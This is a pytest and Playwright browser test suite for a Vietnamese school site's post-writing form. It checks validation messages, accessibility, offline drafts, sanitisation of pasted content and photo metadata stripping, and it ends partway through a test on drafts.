"""A post is written on the page Viết bài in Chromium as different teachers would, and what they send is taken in by ``import``."""

import io
import os
import re
import shutil
import time
import zipfile
from pathlib import Path

import docx
import pytest
import yaml
from axe_playwright_python.sync_playwright import Axe

from browser.gzipped import Gzipping
from browser.pasted import CASES
from browser.visits import AXE
from browser.waiting import wait_until
from browser.writing_form import EDITOR, PHONE, PHOTOS, QUARTER, READY, SENT, SHARE, SUMMARY, TEXT, TITLE, UNIT, Sheet, teacher
from chuyenmuc.submissions.sheet import read_sheet
from support.camera import SECRET
from support.drawings import photo as drawn
from support.scenes import PROJECT, Repository, lay_out

BUNDLE = PROJECT / "hooks/editor/dist/rich-text.js"
WEIGHT = 250 * 1024
GAP = {"COLUMN_ON_MISSING": "warn"}

needs_bundle = pytest.mark.skipif(not BUNDLE.exists(), reason="hooks/editor is not bundled: node hooks/editor/build.mjs")


def with_a_gap(folder: Path) -> Repository:
    """The small site, on which one school still owes a post for the third quarter."""
    repository = lay_out(folder)
    (repository.root / f"posts/{UNIT}/2026-q3-mua-he.md").unlink()
    return repository


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Repository:
    repository = with_a_gap(tmp_path_factory.mktemp("viet") / "site")
    done = repository.build(**GAP)
    assert done.status == 0, done.err
    return repository


@pytest.fixture(scope="module")
def home(site, serve) -> str:
    return serve(site)


@pytest.fixture
def someone(browser, home):
    """Opens the page for somebody; at the end nothing was asked for elsewhere, and the browser complained of nothing."""
    everyone = []

    def make(**settings):
        everyone.append(teacher(browser, home, **settings))
        return everyone[-1]

    yield make
    for one in everyone:
        one.context.close()
        assert one.elsewhere() == []
        assert one.said == []


def imported(site: Repository, folder: Path, name: str, content: bytes) -> Repository:
    """Give a file to ``import`` in a copy of the repository, check it and build its site."""
    copy = Repository(folder / "sau")
    shutil.copytree(site.root, copy.root, ignore=shutil.ignore_patterns("site"))
    (folder / name).write_bytes(content)
    done = copy.command("--root", str(copy.root), "import", str(folder / name))
    assert done.status == 0, done.out + done.err
    checked = copy.check()
    assert checked.status == 0, checked.err
    built = copy.build()
    assert built.status == 0, built.err
    return copy


# ---- The whole path ----


@needs_bundle
def test_a_post_with_two_photos_goes_from_the_phone_to_the_site_in_one_go(someone, site, tmp_path):
    """At 390 px with touch; ``-s`` shows the taps and the time."""
    one = someone(**PHONE)
    one.context.add_init_script(SHARE)
    page = one.open(f"truong/{UNIT}/", ready="[data-gap]")
    began = time.monotonic()
    one.tap('[data-gap] a[href*="viet-bai/?don-vi="]')
    page.locator(READY).wait_for()
    assert (page.locator("[name=unit]").input_value(), page.locator("[name=quarter]").input_value()) == (UNIT, "2026-Q3")
    one.type("[name=title]", TITLE)
    one.type("[name=summary]", SUMMARY)
    one.type(EDITOR, TEXT)
    one.tap("[name=topics]")
    one.choose_files(*PHOTOS)
    one.type("[data-write-photos] > li:nth-child(1) input[name$='.alt']", "Hai bạn nhặt rau ở sân trường")
    one.type("[data-write-photos] > li:nth-child(2) input[name$='.alt']", "Nồi canh đang sôi trên bếp")
    one.tap("[name=people][value=pupils]")
    one.type("[name='consent.ref']", "Sổ đồng ý số 12")
    page.locator("[name='consent.date']").fill("2026-10-15")  # the phone's own calendar: three taps
    one.taps += 3
    one.tap("[name='consent.child_agreed']")
    assert one.mistakes() == []
    one.send()
    one.tap("[data-way=share]")
    page.get_by_text("Đã chuyển phiếu sang ứng dụng").wait_for()
    took = time.monotonic() - began
    print(f"\n{one.taps} taps, {took:.1f} seconds of the machine")
    shared = page.evaluate("window.shared")
    assert shared["name"] == f"phieu-{UNIT}-{QUARTER}-bua-com-doi-vai-bo-rua-bat.html"
    assert one.taps <= 25

    sheet = Sheet(shared["text"])
    assert [image.size for image in sheet.images] == [(2048, 1365), (1200, 900)]
    for image, content in zip(sheet.images, sheet.pictures, strict=True):
        assert not image.getexif() and SECRET.encode() not in content and b"http://ns.adobe.com" not in content
        width, height = image.size
        quarters = [image.convert("RGB").getpixel((x * width // 4, y * height // 4)) for y in (1, 3) for x in (1, 3)]
        assert [tuple(round(value / 255) for value in quarter) for quarter in quarters] == [(1, 0, 0), (0, 1, 0), (0, 0, 1), (1, 1, 1)]

    after = imported(site, tmp_path, shared["name"], shared["text"].encode())
    stem = f"{QUARTER}-bua-com-doi-vai-bo-rua-bat"
    built = after.page(f"truong/{UNIT}/{stem}")
    assert TITLE in built and 'alt="Hai bạn nhặt rau ở sân trường"' in built and 'alt="Nồi canh đang sôi trên bếp"' in built
    assert "child_agreed: true" in (after.root / f"posts/{UNIT}/{stem}.md").read_text("utf-8")


@needs_bundle
def test_the_whole_path_by_keyboard_alone(someone):
    one = someone(viewport={"width": 1280, "height": 800})
    page = one.open()
    keys = page.keyboard

    def to(where: str, key: str = "Tab", most: int = 60) -> None:
        """Press a key until the focus is there; it is never lost, and always to be seen."""
        for _ in range(most):
            keys.press(key)
            state = page.evaluate(
                """where => {
                  const here = document.activeElement, shown = here.closest(".cm-write__add") || here
                  const lost = here === document.body, style = getComputedStyle(shown)
                  const box = here.getBoundingClientRect()
                  return {there: here.matches(where), lost, hidden: style.outlineStyle === "none" && style.boxShadow === "none",
                    away: box.bottom < 0 || box.top > innerHeight, what: here.outerHTML.slice(0, 150)}
                }""",
                where,
            )
            assert not state["lost"] and not state["hidden"] and not state["away"], state["what"]
            if state["there"]:
                return
        raise AssertionError(f"never reached: {where}")

    page.locator("[name=unit]").focus()
    to("[name=title]")
    keys.type(TITLE)
    to("[name=summary]")
    keys.type("Lớp 7A nấu cơm.")
    to("[data-tool=heading2]")
    to(EDITOR)
    keys.type("Trước giờ nấu")
    to("[data-tool=heading2]", "Shift+Tab")
    to("[data-tool=heading3]", "ArrowRight")
    keys.press("Enter")
    assert page.evaluate("document.activeElement.matches('.ProseMirror')")
    keys.press("Enter")
    keys.insert_text(TEXT)
    keys.press("Enter")
    to("[data-tool=heading3]", "Shift+Tab")
    to("[data-tool=bullets]", "ArrowRight")
    keys.press("Space")
    keys.type("nhặt rau")
    keys.press("Enter")
    keys.type("rửa bát")
    keys.press("Enter")
    keys.press("Enter")
    to("[data-tool=bullets]", "Shift+Tab")
    to("[data-tool=table]", "ArrowRight")
    keys.press("Enter")
    for word in ("Việc", "Ai làm", "Nấu", "Bố", "Rửa", "Mẹ"):
        keys.type(word)
        if word != "Mẹ":
            keys.press("Tab")
    to("[data-tool=table]", "Shift+Tab", most=10)
    to("[data-tool=noTable]", "ArrowRight")
    to("[data-tool=undo]", "ArrowRight")
    to("[name=topics]")
    keys.press("Space")
    to("[name=kind]")
    to("[name=date]", most=30)
    to("[data-write-add]")
    with page.expect_file_chooser() as chooser:
        keys.press("Enter")
    chooser.value.set_files(PHOTOS)
    page.locator("[data-write-photos] > li").nth(1).wait_for()
    to("[data-write-photos] > li:nth-child(1) input[name$='.alt']")
    keys.type("Hai bạn nhặt rau")
    to("[data-write-photos] > li:nth-child(2) input[name$='.alt']")
    keys.type("Nồi canh đang sôi")
    to("[data-write-photos] > li:nth-child(2) button")
    keys.press("Enter")
    page.locator(f"{EDITOR} figure img").wait_for()
    assert page.evaluate("document.activeElement.textContent") == "Dời đến con trỏ", "the focus stays with the photo"
    to("[name=people]")
    keys.press("Space")
    for _ in range(2):
        keys.press("ArrowDown")
    to("[name='consent.ref']")
    keys.type("Sổ đồng ý số 12")
    to("[name='consent.date']")
    keys.type("10152026")
    to("[name='consent.child_agreed']")
    keys.press("Space")
    to("[data-write-preview]")
    keys.press("Enter")
    page.locator("dialog[open]").wait_for()
    keys.press("Escape")
    assert page.evaluate("document.activeElement.hasAttribute('data-write-preview')")
    to("[data-write-send]")
    assert one.mistakes() == []
    keys.press("Enter")
    page.locator(SENT).wait_for()
    to("[data-way=download]")
    with page.expect_download() as download:
        keys.press("Enter")
    body = Sheet(Path(download.value.path()).read_text("utf-8")).body
    assert body.startswith("### Trước giờ nấu\n\n") and "\n- nhặt rau\n- rửa bát\n" in body
    assert "| Việc | Ai làm |\n|---|---|\n| Nấu | Bố |\n| Rửa | Mẹ |" in body
    to("[data-write-back]")
    keys.press("Enter")
    assert page.evaluate("document.activeElement.hasAttribute('data-write-send')"), "back where one was"


@needs_bundle
def test_the_whole_path_without_a_network_once_the_page_is_loaded(someone):
    one = someone(**PHONE)
    page = one.open()
    page.wait_for_load_state("networkidle")
    one.until("navigator.serviceWorker.ready.then(() => true)")  # the browser itself complains of a worker that it cannot fetch
    one.context.set_offline(True)
    one.fill()
    one.fill_photos(*PHOTOS)
    one.tap("[data-write-preview]")
    assert page.locator("dialog img").count() == 2
    one.tap("[data-write-close]")
    one.send()
    assert not page.locator("[data-way=share]").is_visible(), "this browser shares no files"
    name, content = one.download()
    assert Sheet(content.decode()).data["unit"] == UNIT
    archive, packed = one.download("zip")
    assert archive == name.replace(".html", ".zip")
    assert zipfile.ZipFile(io.BytesIO(packed)).read(name) == content


def test_all_modules_are_asked_for_at_once(someone):
    """A module that the page names is not found first in another one that had to come before: on a phone each step is a second."""
    one = someone()
    page = one.open()
    page.wait_for_load_state("networkidle")
    named = page.locator("link[rel=modulepreload], script[type=module]")
    addresses = set(named.evaluate_all("all => all.map(one => one.href || one.src)"))
    loaded = {url for url in one.asked if "/writing/" in url and url.endswith(".js")}
    assert addresses <= loaded and {url.rsplit("/", 1)[1] for url in loaded - addresses} <= {"zip.js"}


KEPT = """title => new Promise(done => { const request = indexedDB.open("chuyen-muc-viet-bai")
  request.onsuccess = () => {
    const all = request.result.transaction("drafts").objectStore("drafts").getAll()
    all.onsuccess = () => { request.result.close(); done(all.result.some(draft => draft.title === title)) }
  } })"""
# All is put in at once, when the last of it has come.
OFFLINE = "caches.open('viet-bai').then(cache => cache.keys()).then(kept => kept.length > 20)"


@needs_bundle
def test_the_page_opens_without_a_network_once_it_was_opened(someone):
    one = someone(now=None, **PHONE)
    page = one.open()
    one.fill()
    page.get_by_text("Đã giữ bài trong máy này lúc").wait_for()
    one.until(OFFLINE)
    with page.expect_event("close"):
        page.close(run_before_unload=True)
    one.context.set_offline(True)
    page = one.open("viet-bai/")
    assert page.locator("[name=title]").input_value() == TITLE and TEXT in page.locator(EDITOR).inner_text()
    assert page.evaluate("getComputedStyle(document.querySelector('[data-write-send]')).minHeight") != "0px", "the style sheet is there"
    one.fill_photos(*PHOTOS)
    one.send()
    assert len(Sheet(one.download()[1].decode()).images) == 2
    assert one.download("zip")[0].endswith(".zip")
    assert one.elsewhere() == []


@needs_bundle
def test_with_a_network_the_page_is_the_one_of_the_last_build(someone, site):
    one = someone(now=None)
    page = one.open()
    one.until(OFFLINE)
    file = site.site() / "viet-bai/index.html"
    before = file.read_text("utf-8")
    stamp = file.stat().st_mtime
    try:
        file.write_text(before.replace("Viết xong, bấm", "Viết xong thì bấm"), "utf-8")
        os.utime(file, (stamp + 10, stamp + 10))  # the server tells by the second what has changed
        page.reload()
        page.get_by_text("Viết xong thì bấm").wait_for()
        assert page.evaluate("navigator.serviceWorker.controller !== null")
    finally:
        file.write_text(before, "utf-8")


@needs_bundle
def test_no_other_page_is_served_from_what_was_kept(someone):
    one = someone(now=None)
    page = one.open()
    one.until(OFFLINE)
    page.goto(one.base)
    assert page.evaluate("navigator.serviceWorker.controller") is None


@pytest.fixture(scope="module")
def plain(tmp_path_factory, serve) -> tuple[Repository, str]:
    """The site of a project whose editor was never bundled."""
    repository = with_a_gap(tmp_path_factory.mktemp("viet-chu") / "site")
    shutil.rmtree(repository.root / "hooks/editor/dist", ignore_errors=True)
    done = repository.build(**GAP)
    assert done.status == 0, done.err
    return repository, serve(repository)


def test_without_the_bundle_a_text_box_does(browser, plain, tmp_path):
    site, base = plain
    one = teacher(browser, base, **PHONE)
    page = one.open()
    assert page.locator(EDITOR).count() == 0 and not page.locator("[data-write-tools]").is_visible()
    page.locator("[name=plain]").fill("Ngắn.")
    page.locator("[name=title]").focus()
    assert "kế hoạch cần ít nhất 40 chữ" in page.locator("[data-error=text]").inner_text()
    page.locator("[name=plain]").fill("")
    one.fill(f"## Trước giờ nấu\n\n{TEXT}\n\n")
    one.fill_photos(*PHOTOS)
    one.tap("button:text-is('Đặt vào bài')")
    assert one.mistakes() == []
    one.send()
    name, content = one.download()
    after = imported(site, tmp_path, name, content)
    built = after.page(f"truong/{UNIT}/{QUARTER}-bua-com-doi-vai-bo-rua-bat")
    assert "Trước giờ nấu</h2>" in built and 'alt="Hai bạn nhặt rau ở sân trường, hình 2"' in built
    assert one.said == [] and one.elsewhere() == []
    one.context.close()


def test_without_javascript_the_guide_is_named(browser, home):
    context = browser.new_context(java_script_enabled=False, locale="vi-VN")
    page = context.new_page()
    page.goto(f"{home}viet-bai/")
    assert not page.locator("form[data-write]").is_visible()
    page.get_by_role("link", name="cách viết bài bằng tệp văn bản").click()
    assert page.url == f"{home}huong-dan/viet-bai/"
    context.close()


# ---- Mistakes ----


def choose(name, value):
    return lambda one: one.page.locator(f"[name='{name}']").select_option(value)


def put(name, value):
    return lambda one: one.page.locator(f"[name='{name}']").fill(value)


def write(text):
    def rewrite(one):
        one.page.locator(EDITOR).focus()
        one.page.keyboard.press("Control+a")
        one.page.keyboard.press("Delete")
        one.page.keyboard.insert_text(text)

    return rewrite


def outline(one):
    one.page.once("dialog", lambda dialog: dialog.accept())
    one.page.locator("[data-write-outline]").select_option(index=1)


def photos(change):
    def add(one):
        one.fill_photos(PHOTOS[1])
        change(one)

    return add


def unchecked(name):
    return lambda one: one.page.locator(f"[name='{name}']").first.uncheck()


# What is done to a post that is right, the field with the mistake, and what is said.
MISTAKES = {
    "no unit": (choose("unit", ""), "unit", "Chọn đơn vị."),
    "no title": (put("title", " "), "title", "Ghi tên bài."),
    "a title of signs": (put("title", "?!"), "title", "Tên bài không có chữ hay số nào."),
    "no summary": (put("summary", ""), "summary", "Viết một hai câu tóm tắt."),
    "no topic": (unchecked("topics"), "topics", "Chọn ít nhất một chủ đề."),
    "no day": (put("date", ""), "date", "Ghi ngày đăng."),
    "a day before the quarter": (put("date", "2026-06-30"), "date", "ngày đăng sớm hơn quý ấy"),
    "no text": (write(""), "text", "Bài chưa có nội dung."),
    "a short text": (write("Ngắn quá."), "text", "Bài có 2 chữ, kế hoạch cần ít nhất 40 chữ."),
    "the same again and again": (write("Sáng nay cả lớp cùng nhau nấu cơm. " * 9), "text", "Có những câu lặp lại"),
    "a gap of a template": (write(f"{TEXT} Hôm ấy có [tên trường] đến dự."), "text", "chỗ để trống của bài mẫu"),
    "prompts of an outline": (outline, "text", "câu gợi ý của dàn bài chưa viết"),
    "a photo without a description": (photos(lambda one: one.photo_field(0, "alt").fill("")), "photo", "Hình 1 chưa có lời tả."),
    "a file name as a description": (photos(lambda one: one.photo_field(0, "alt").fill("IMG_0001")), "photo", "Hình 1 chưa có lời tả."),
    "nobody said who is in the photos": (lambda one: one.choose_files(PHOTOS[1]), "people", "Chọn trong hình nhận ra được ai."),
    "no place of consent": (photos(put("consent.ref", "")), "consent.ref", "ghi nơi lưu giấy đồng ý"),
    "no day of consent": (photos(put("consent.date", "")), "consent.date", "Ghi ngày đồng ý."),
    "the child was not asked": (photos(unchecked("consent.child_agreed")), "consent.child_agreed", "chính mình đồng ý"),
    "approved by nobody": (put("approved.date", "2026-10-15"), "approved.by", "Ghi ai duyệt"),
    "approved on no day": (put("approved.by", "Hiệu trưởng"), "approved.date", "Ghi ngày duyệt."),
}  # fmt: skip


@needs_bundle
@pytest.mark.parametrize("case", MISTAKES)
def test_a_mistake_is_told_in_words_beside_its_field_and_in_the_list(someone, case):
    make, name, words = MISTAKES[case]
    one = someone(viewport={"width": 800, "height": 800})
    page = one.open()
    one.fill()
    assert one.mistakes() == []
    make(one)
    if name == "photo":
        name = page.locator("[data-write-photos] [data-error]").get_attribute("data-error")
    field = {"text": EDITOR}.get(name, f"[name^='{name}']")
    page.locator(field).first.focus()
    page.locator("[data-write-preview]").focus()
    beside = page.locator(f"[data-error='{name}']")
    assert words in beside.inner_text()
    assert beside.is_visible()
    assert [told for told in one.mistakes() if words in told]
    page.locator("[data-write-send]").click()
    assert not page.locator(SENT).is_visible()
    assert page.evaluate("document.activeElement.matches('[data-write-mistakes] li:first-child a')"), "the list is where one is led"
    page.locator("[data-write-mistakes] a", has_text=words).click()
    field, described, invalid = page.evaluate(
        """() => {
          const here = document.activeElement
          const ids = `${here.getAttribute("aria-describedby") || ""} ${here.closest("fieldset")?.getAttribute("aria-describedby") || ""}`
          const told = ids.split(" ").filter(Boolean).map(id => document.getElementById(id)?.textContent).join(" ")
          return [here.name || here.className, told, here.getAttribute("aria-invalid")]
        }"""
    )
    assert field.startswith({"text": "ProseMirror"}.get(name, name))
    assert words in described, "screen readers read it with the field"
    assert invalid == "true"


@needs_bundle
def test_nothing_is_told_before_a_field_was_left(someone):
    one = someone(viewport={"width": 800, "height": 800})
    page = one.open()
    page.locator(EDITOR).click()
    page.keyboard.type("Hôm ấy")
    assert [text for text in page.locator("[data-error]").all_inner_texts() if text] == []
    page.keyboard.press("Tab")
    assert len([text for text in page.locator("[data-error]").all_inner_texts() if text]) == 1


@needs_bundle
@pytest.mark.parametrize("settings", [PHONE, {"viewport": {"width": 800, "height": 800}}], ids=["finger", "mouse"])
def test_a_mistake_that_is_told_does_not_push_away_what_is_being_pressed(someone, settings):
    one = someone(**settings)
    page = one.open()
    topics = [f"[name=topics] >> nth={number}" for number in (0, 1)]
    for field, pressed in (("[name=title]", "[name=summary]"), (topics[0], "[data-write-add]"), (EDITOR, topics[1])):
        page.locator(pressed).evaluate("place => place.scrollIntoView({ block: 'end' })")
        page.locator(field).evaluate("place => place.focus({ preventScroll: true })")
        box = page.locator(pressed).bounding_box()
        at = box["x"] + 8, box["y"] + min(6, box["height"] / 2)
        page.evaluate("window.pressed = null; addEventListener('click', event => { window.pressed ||= event.target.name || 'add' }, true)")
        if settings is PHONE:
            page.touchscreen.tap(*at)
        else:
            page.mouse.move(*at)
            page.mouse.down()
            page.wait_for_timeout(700)
            page.mouse.up()
        assert page.evaluate("window.pressed") in pressed, field
        page.locator("[data-error]:not(:empty)").first.wait_for()


@needs_bundle
def test_a_tap_on_a_mistake_works_out_of_any_field(someone):
    """The list was written anew when a field lost the focus, under the finger."""
    one = someone(**PHONE)
    page = one.open()
    one.tap("[name=title]")
    page.locator("[data-write-mistakes]").scroll_into_view_if_needed()
    one.tap("[data-write-mistakes] li:nth-child(2) a")
    assert page.evaluate("document.activeElement.name") == "summary"


@needs_bundle
def test_what_is_written_comes_first_and_the_list_of_mistakes_follows_the_form(someone):
    one = someone(**PHONE)
    page = one.open("viet-bai/")
    assert [heading[:3] for heading in page.locator("form h2").all_inner_texts()] == [f"{number}. " for number in range(1, 8)]
    fields = ("[name=title]", "[name=summary]", EDITOR, "[name=topics]", "[name=kind]", "[name=author]", "[name=date]", "#viet-5")
    tops = [page.locator(field).first.bounding_box()["y"] for field in fields]
    assert tops == sorted(tops)
    page.locator("[name=date]").fill("")
    page.locator("[name='approved.by']").fill("Hiệu trưởng")
    one.choose_files(PHOTOS[1])
    told = []
    for number, _ in enumerate(one.mistakes()):
        one.tap(f"[data-write-mistakes] li:nth-child({number + 1}) a")
        top = "document.activeElement.getBoundingClientRect().top + scrollY"
        told.append((page.evaluate(top), page.evaluate("document.activeElement.name || 'text'")))
    assert [name.split(".")[0] for _, name in told] == ["unit", "title", "summary", "text", "topics", "date", "photo", "people", "approved"]
    order = page.evaluate("[...document.querySelectorAll('form [name], form .ProseMirror')].map(field => field.name || 'text')")
    assert [order.index(name) for _, name in told] == sorted(order.index(name) for _, name in told)


# ---- The editor ----

PASTE = """html => {
  const data = new DataTransfer()
  data.setData("text/html", html)
  data.setData("text/plain", "chữ trơn")
  const paste = new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true })
  document.querySelector(".ProseMirror").dispatchEvent(paste)
}"""


@needs_bundle
@pytest.mark.parametrize("source", CASES)
def test_what_is_pasted_becomes_clean_markdown(someone, source):
    """Nothing is requested for it, nothing of it acts, and the text is exactly what one saw."""
    pasted, expected = CASES[source]
    one = someone(viewport={"width": 800, "height": 800})
    page = one.open()
    one.fill()
    page.keyboard.press("Enter")
    page.evaluate(PASTE, pasted)
    assert "Hình trong phần ấy không theo vào được" in page.locator("[data-write-pasted]").inner_text()
    page.locator("[data-write-preview]").click()
    page.locator("[data-write-close]").click()
    one.send()
    body = Sheet(one.download()[1].decode()).body
    assert body.removeprefix(TEXT).strip() == expected
    assert page.evaluate("window.hit") is None
    assert (
        page.locator("#viet-text")
        .locator("script, style, img:not(.ProseMirror-separator), iframe, svg, video, object, embed, [onclick], [style*=url]")
        .count()
        == 0
    )


@needs_bundle
def test_a_pasted_picture_becomes_a_photo(someone):
    one = someone(viewport={"width": 800, "height": 800})
    page = one.open()
    page.locator(EDITOR).focus()
    page.evaluate(
        """async () => {
          const data = new DataTransfer(), canvas = Object.assign(document.createElement("canvas"), { width: 90, height: 60 })
          const blob = await new Promise(done => canvas.toBlob(done))
          data.items.add(new File([blob], "image.png", { type: "image/png" }))
          const paste = new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true })
          document.querySelector(".ProseMirror").dispatchEvent(paste)
        }"""
    )
    page.locator("[data-write-photos] img").wait_for()
    assert "đã vào mục Hình" in page.locator("[data-write-pasted]").inner_text()


@needs_bundle
def test_a_link_is_set_changed_and_taken_away(someone):
    one = someone(**PHONE)
    page = one.open()
    page.locator(EDITOR).fill("Đọc luật ở đây")
    page.locator(EDITOR).focus()
    page.keyboard.press("Control+a")
    one.tap("[data-tool=link]")
    assert page.evaluate("document.activeElement.id") == "viet-link"
    page.keyboard.type("vanban.example.vn/luat")
    page.keyboard.press("Enter")
    assert page.locator(f"{EDITOR} a").get_attribute("href") == "https://vanban.example.vn/luat"
    assert page.evaluate("document.activeElement.matches('.ProseMirror')")
    one.tap("[data-tool=link]")
    assert page.locator("#viet-link").input_value() == "https://vanban.example.vn/luat"
    one.tap("[data-link=remove]")
    assert page.locator(f"{EDITOR} a").count() == 0
    one.tap("[data-tool=link]")
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.matches('.ProseMirror')")


@needs_bundle
def test_a_photo_is_placed_moved_and_taken_out_of_the_text(someone):
    one = someone(viewport={"width": 800, "height": 800})
    page = one.open()
    page.locator(EDITOR).focus()
    for word in ("Một", "Hai", "Ba"):
        page.keyboard.type(word)
        page.keyboard.press("Enter")
    one.choose_files(*PHOTOS)
    blocks = f"[...document.querySelector('{EDITOR}').children].map(block => block.textContent.trim() || block.tagName)"
    page.locator(f"{EDITOR} p").first.click()
    page.locator("button:text-is('Đặt vào bài')").click()
    assert page.evaluate(blocks)[:4] == ["Một", "FIGURE", "Hai", "Ba"]
    page.locator(f"{EDITOR} p:text-is('Ba')").click()
    page.locator("button:text-is('Dời đến con trỏ')").click()
    assert page.evaluate(blocks)[:4] == ["Một", "Hai", "Ba", "FIGURE"]
    page.clock.set_fixed_time("2026-10-20T09:05:00+07:00")  # what is done within half a second is undone together
    page.locator(f"{EDITOR} figure").click()
    page.keyboard.press("Backspace")
    page.locator("button:text-is('Đặt vào bài')").wait_for()
    page.keyboard.press("Control+z")
    page.locator("button:text-is('Dời đến con trỏ')").wait_for()
    page.locator("button:text-is('Đưa lên đầu')").click()
    assert page.locator(f"{EDITOR} figure").count() == 0
    assert page.locator("[data-write-photos] > li").count() == 2


@needs_bundle
def test_vietnamese_input_methods_write_what_is_meant(someone):
    """Telex as a composition: the word changes until it is finished (“tieengs”: tiếng)."""
    one = someone(viewport={"width": 800, "height": 800})
    page = one.open()
    keyboard = one.context.new_cdp_session(page)

    def telex(word: str, *steps: str) -> None:
        for step in (*steps, word):
            keyboard.send("Input.imeSetComposition", {"text": step, "selectionStart": len(step), "selectionEnd": len(step)})
        keyboard.send("Input.insertText", {"text": word})

    for where in ("[name=title]", "[name=summary]", EDITOR):
        page.locator(where).click()
        telex("Tiếng", "T", "Ti", "Tie", "Tiê", "Tiên", "Tiêng")
        page.keyboard.type(" ")
        telex("Việt", "V", "Vi", "Vie", "Viê", "Viêt")
        page.keyboard.type(" ")
    assert page.locator("[name=title]").input_value() == page.locator("[name=summary]").input_value() == "Tiếng Việt "
    assert page.locator(EDITOR).inner_text().strip() == "Tiếng Việt"
    page.locator("[data-tool=strong]").click()
    telex("đậm", "d", "đ", "đa", "đâ", "đâm")
    page.keyboard.press("Enter")
    page.keyboard.type("- ")
    telex("được", "d", "đ", "đư", "đươ", "đươc")
    telex("", "t", "tr")  # begun and taken back
    page.keyboard.press("Enter")
    telex("rồi", "r", "rô", "rôi")
    assert page.locator(f"{EDITOR} p").first.inner_html() == "Tiếng Việt <strong>đậm</strong>"
    assert page.locator(f"{EDITOR} li").all_inner_texts() == ["được", "rồi"]


HALF = """() => {
  for (const name of ["title", "summary", "author", "consent.ref", "approved.by"]) {
    const field = document.querySelector(`[name="${name}"]`)
    field.value = `${field.value} nửa \\ud83d`
    field.dispatchEvent(new Event("input", { bubbles: true }))
  }
  for (const field of document.querySelectorAll("[data-write-photos] input")) {
    field.value = `\\ude00 ${field.value} nửa`
    field.dispatchEvent(new Event("input", { bubbles: true }))
  }
  document.querySelector(".ProseMirror").focus()
  document.execCommand("insertText", false, "Nửa \\ud83d")
  document.execCommand("insertParagraph")
  document.execCommand("insertText", false, "\\ude00 nửa")
}"""


@needs_bundle
def test_half_an_emoji_in_any_field_is_replaced_in_the_sheet(someone):
    one = someone(viewport={"width": 800, "height": 800})
    page = one.open()
    one.fill()
    one.fill_photos(*PHOTOS)
    page.locator("[name='approved.date']").fill("2026-10-15")
    page.evaluate(HALF)
    one.send()
    _, content = one.download()
    sent = read_sheet(content)
    assert (sent.unit, len(sent.pictures)) == (UNIT, 2)
    front, body = sent.text.split("\n---\n", 1)
    assert front.count("\ufffd") == 7, "title, summary, author, description and credit of the first photo, consent, approval"
    assert body.count("\ufffd") + body.count("&#65533;") == 4, "two in the text, description and caption of the second photo"
    assert not re.search(r"(?i)\\\\ud[89a-f]|&#5[5-7]\d\d\d;", sent.text)


# ---- Drafts ----


@needs_bundle
def test_a_draft_outlives_its_tab_and_never_leaves_the_device(someone):
    one = someone(viewport={"width": 800, "height": 800})
    page = one.open()
    one.fill()
    one.fill_photos(*PHOTOS)
    page.locator("button:text-is('Đặt vào bài')").click()
    page.get_by_text("Đã giữ bài trong máy này lúc").wait_for()
    page.locator("[name='consent.ref']").fill("Sổ đồng ý số 13")
    with page.expect_event("close"):
        page.close(run_before_unload=True)  # at once: what was typed last is kept too
    asked = len(one.asked)
    page = one.open("viet-bai/")
    assert page.locator("[name=title]").input_value() == TITLE
    assert page.locator("[name=unit]").input_value() == UNIT
    assert page.locator("[name=topics]").first.is_checked()
    assert page.locator("[name=people][value=pupils]").is_checked()
    assert page.locator("[name='consent.ref']").input_value() == "Sổ đồng ý số 13"
    assert TEXT in page.locator(EDITOR).inner_text()
    wait_until(page, "[...document.querySelectorAll('[data-write-photos] img, .ProseMirror img')].every(image => image.naturalWidth)")
    assert page.locator("[data-write-photos] img").count() == 2 and page.locator(f"{EDITOR} img").count() == 1
    assert one.mistakes() == []
    assert [url for url in one.asked[asked:] if "?" in url.removeprefix(one.base).removeprefix("viet-bai/?")] == []
    one.send()
    assert len(Sheet(one.download()[1].decode()).images) == 2


@needs_bundle
def test_who_follows_an_exemplar_begins_a_new_draft_with_its_outline(someone):
    """What was being written stays a draft; the address is used once, so that a page opened again goes on."""
    one = someone(now=None)  # the draft that was changed last is the one to go on with
    page = one.open()
    one.fill()
    one.until(KEPT, TITLE)
    page = one.open("viet-bai/?dan-bai=lam-theo")
    assert page.locator("[data-write-outline]").input_value() == "lam-theo"
    assert page.locator("[name=title]").input_value() == "" and "Học từ mô hình nào" in page.locator(EDITOR).inner_text()
    assert page.url.endswith("viet-bai/")
    page.locator("[name=title]").fill("Làm theo")
    one.until(KEPT, "Làm theo")
    page.reload()
    page.locator(READY).wait_for()
    assert page.locator("[name=title]").input_value() == "Làm theo"
    page = one.open("viet-bai/?dan-bai=khong-co")
    assert page.locator("[data-write-outline]").input_value() == "" and page.locator("[name=title]").input_value() == ""


@needs_bundle
def test_two_drafts_are_kept_apart_and_one_can_be_deleted(someone):
    one = someone(viewport={"width": 800, "height": 800})
    page = one.open()
    page.locator("[name=title]").fill("Bài thứ nhất")
    page.locator(EDITOR).fill("Chữ thứ nhất")
    page.locator("form [data-write-new]").click()
    page.get_by_role("button", name="Viết tiếp “Bài thứ nhất”").wait_for()
    assert (page.locator("[name=title]").input_value(), page.locator("[name=unit]").input_value()) == ("", UNIT)
    assert page.evaluate("document.activeElement.id") == "viet-1"
    assert page.locator(EDITOR).inner_text().strip() == ""
    page.locator("[name=title]").fill("Bài thứ hai")
    page.locator(EDITOR).fill("Chữ thứ hai")
    page.get_by_role("button", name="Viết tiếp “Bài thứ nhất”").click()
    page.get_by_role("button", name="Viết tiếp “Bài thứ hai”").wait_for()
    assert page.locator("[name=title]").input_value() == "Bài thứ nhất"
    assert page.locator(EDITOR).inner_text().strip() == "Chữ thứ nhất"
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Xoá “Bài thứ hai”").click()
    page.get_by_role("button", name="Viết tiếp “Bài thứ hai”").wait_for(state="detached")
    assert page.evaluate("document.activeElement.hasAttribute('data-write-new')"), "the focus is not lost"
    page.close()
    page = one.open()
    assert page.locator("[name=title]").input_value() == "Bài thứ nhất"
    assert page.locator("[data-write-drafts] li").count() == 0


@needs_bundle
def test_one_tab_at_a_time_writes_a_draft(someone):
    one = someone(viewport={"width": 800, "height": 800})
    first = one.open()
    first.locator("[name=title]").fill("Bài thứ nhất")
    first.get_by_text("Đã giữ bài trong máy này lúc").wait_for()
    second = one.open()
